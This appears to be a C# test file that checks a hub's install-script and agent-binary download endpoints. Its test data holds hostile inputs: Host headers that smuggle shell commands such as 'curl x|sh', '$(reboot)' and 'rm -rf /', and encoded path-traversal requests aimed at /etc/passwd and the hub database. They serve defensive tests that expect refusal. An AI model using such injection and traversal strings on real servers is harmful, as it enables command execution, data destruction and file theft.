using System.Net;
using Lumen.Hub.Specs.Support;
using Lumen.Specs.Support;
using Microsoft.AspNetCore.Http;

namespace Lumen.Hub.Specs.Install;

/// <summary>
/// <c>/install.sh</c> and <c>/install/…</c> on the in-process hub: the address filled in from the
/// option or the Host header, a hostile Host refused, and only the two agent binaries served.
/// </summary>
public sealed class InstallApiSpecs : IAsyncDisposable
{
    private readonly HubFactory _hub = new();

    private string InstallFolder => Path.Combine(_hub.Database.Folder, "agents");

    private HubFactory WithBinaries()
    {
        FakeAgentBinaries.WriteInto(InstallFolder);
        return _hub.With("LUMEN_HUB_INSTALL_DIR", InstallFolder);
    }

    [Fact]
    public async Task Install_script_should_carry_the_public_url_when_LUMEN_HUB_PUBLIC_URL_is_set()
    {
        _hub.With("LUMEN_HUB_PUBLIC_URL", "https://hub.example.lan:8443/lumen/");

        var response = await _hub.CreateClient().GetAsync("/install.sh");
        var script = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/x-shellscript", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("#!/usr/bin/env bash\n", script);
        Assert.Contains("\nHUB_URL='https://hub.example.lan:8443/lumen'\n", script);
        Assert.DoesNotContain("__LUMEN_", script);
        Assert.Contains("no-store", response.Headers.CacheControl?.ToString());
    }

    [Fact]
    public async Task Install_script_should_carry_the_address_of_the_request_when_no_public_url_is_set()
    {
        var client = _hub.CreateClient();
        client.BaseAddress = new Uri("http://nas.home.lan:9000");

        var script = await client.GetStringAsync("/install.sh");

        Assert.Contains("\nHUB_URL='http://nas.home.lan:9000'\n", script);
    }

    [Fact]
    public async Task Install_script_should_inline_the_repository_systemd_unit_verbatim()
    {
        var script = await _hub.CreateClient().GetStringAsync("/install.sh");

        var unit = RepositoryFiles.ReadText("deploy/lumen-agent.service").TrimEnd('\n');
        Assert.Contains($"<<'LUMEN_UNIT_EOF'\n{unit}\nLUMEN_UNIT_EOF\n", script);
    }

    [Theory]
    [InlineData("evil.lan';curl x|sh;'")]
    [InlineData("hub.lan$(reboot)")]
    [InlineData("hub.lan:8090/../x")]
    [InlineData("hub.lan\nrm -rf /")]
    [InlineData("hub.lan:99999")]
    [InlineData("user@hub.lan")]
    [InlineData("")]
    public async Task Install_script_should_be_refused_with_400_when_the_Host_header_is_not_a_plain_address(string host)
    {
        var context = await _hub.Server.SendAsync(http =>
        {
            http.Request.Method = HttpMethods.Get;
            http.Request.Path = "/install.sh";
            // The raw header: HostString would encode it the way a well-behaved client does.
            http.Request.Headers.Host = host;
        });

        Assert.Equal(StatusCodes.Status400BadRequest, context.Response.StatusCode);
        var body = await new StreamReader(context.Response.Body).ReadToEndAsync();
        Assert.Contains("LUMEN_HUB_PUBLIC_URL", body);
        Assert.DoesNotContain("#!/", body);
    }

    [Fact]
    public async Task Install_script_should_ignore_a_hostile_Host_header_when_the_public_url_is_set()
    {
        _hub.With("LUMEN_HUB_PUBLIC_URL", "https://hub.example.lan");

        var context = await _hub.Server.SendAsync(http =>
        {
            http.Request.Method = HttpMethods.Get;
            http.Request.Path = "/install.sh";
            http.Request.Headers.Host = "evil';reboot;'";
        });
        var script = await new StreamReader(context.Response.Body).ReadToEndAsync();

        Assert.Equal(StatusCodes.Status200OK, context.Response.StatusCode);
        Assert.Contains("\nHUB_URL='https://hub.example.lan'\n", script);
        Assert.DoesNotContain("evil", script);
    }

    [Theory]
    [InlineData(FakeAgentBinaries.Amd64)]
    [InlineData(FakeAgentBinaries.Arm64)]
    public async Task Agent_binary_should_be_served_as_an_octet_stream_with_its_length(string name)
    {
        var response = await WithBinaries().CreateClient().GetAsync($"/install/{name}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/octet-stream", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal(FakeAgentBinaries.For(name).Length, response.Content.Headers.ContentLength);
        Assert.Equal(FakeAgentBinaries.For(name), await response.Content.ReadAsByteArrayAsync());
    }

    [Fact]
    public async Task Agent_binary_should_answer_HEAD_with_its_length_and_no_body()
    {
        var request = new HttpRequestMessage(HttpMethod.Head, $"/install/{FakeAgentBinaries.Arm64}");

        var response = await WithBinaries().CreateClient().SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(FakeAgentBinaries.For(FakeAgentBinaries.Arm64).Length, response.Content.Headers.ContentLength);
        Assert.Empty(await response.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("/install/..%2Flumen.db")]
    [InlineData("/install/..%2F..%2Fetc%2Fpasswd")]
    [InlineData("/install/lumen-agent-linux-amd64%2F..%2F..%2Flumen.db")]
    [InlineData("/install/lumen-agent-linux-amd64/..%2F..%2Flumen.db")]
    [InlineData("/install/lumen-agent-linux-amd64/extra")]
    [InlineData("/install/LUMEN-AGENT-LINUX-AMD64")]
    [InlineData("/install/lumen-agent-linux-riscv64")]
    [InlineData("/install/lumen-agent-linux-amd64.sig")]
    [InlineData("/install/VERSION")]
    [InlineData("/install/")]
    public async Task Agent_binary_download_should_answer_404_json_for_any_other_name(string path)
    {
        var hub = WithBinaries();
        File.WriteAllText(Path.Combine(InstallFolder, "VERSION"), "0.1.0\n");
        File.WriteAllText(Path.Combine(InstallFolder, "lumen-agent-linux-amd64.sig"), "not for download");

        var response = await hub.CreateClient().GetAsync(new Uri(path, UriKind.Relative));

        var error = await response.AssertApiErrorAsync(HttpStatusCode.NotFound);
        Assert.Contains("/install/lumen-agent-linux-amd64", error);
    }

    [Theory]
    [InlineData("/install/../lumen.db")]
    [InlineData("/install/%2E%2E/lumen.db")]
    [InlineData("/install/./../agents/VERSION")]
    public async Task Agent_binary_download_should_serve_nothing_when_dot_segments_leave_the_install_path(string path)
    {
        var hub = WithBinaries();
        File.WriteAllText(Path.Combine(InstallFolder, "VERSION"), "0.1.0\n");

        var response = await hub.CreateClient().GetAsync(new Uri(path, UriKind.Relative));

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.DoesNotContain("SQLite", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Agent_binary_download_should_name_the_folder_and_variable_when_the_hub_has_no_binaries()
    {
        var response = await _hub.CreateClient().GetAsync($"/install/{FakeAgentBinaries.Amd64}");

        var error = await response.AssertApiErrorAsync(HttpStatusCode.NotFound);
        Assert.Contains("LUMEN_HUB_INSTALL_DIR", error);
        Assert.Contains(Path.Combine(_hub.Database.Folder, "install"), error);
    }

    public async ValueTask DisposeAsync() => await _hub.DisposeAsync();
}
